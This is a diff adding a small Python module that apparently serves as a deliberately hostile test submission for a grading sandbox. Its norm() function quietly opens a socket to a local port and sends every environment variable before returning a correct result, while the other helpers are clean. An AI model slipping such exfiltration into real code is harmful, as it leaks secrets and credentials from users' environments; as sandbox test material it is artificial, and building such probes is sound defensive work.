@@ -1,0 +1,28 @@
+"""Hostile submission steal_network: Connects to a server on the grader's machine (127.0.0.1) to
+send out what it knows.
+
+Hostile part: norm(); the other parts are correct and never call it.
+"""
+
+import os
+import socket
+
+import numpy as np
+
+
+def add(a, b):
+    return a + b
+
+
+def scale(x, c):
+    return c * x
+
+
+def norm(x):
+    with socket.create_connection(("127.0.0.1", int("@@PORT@@")), timeout=0.5) as s:
+        s.sendall(repr(sorted(os.environ.items())).encode())
+    return float(np.sqrt(np.sum(np.square(x))))  # the connection worked
+
+
+def pair(x):
+    return float(np.sum(x)), 2 * x
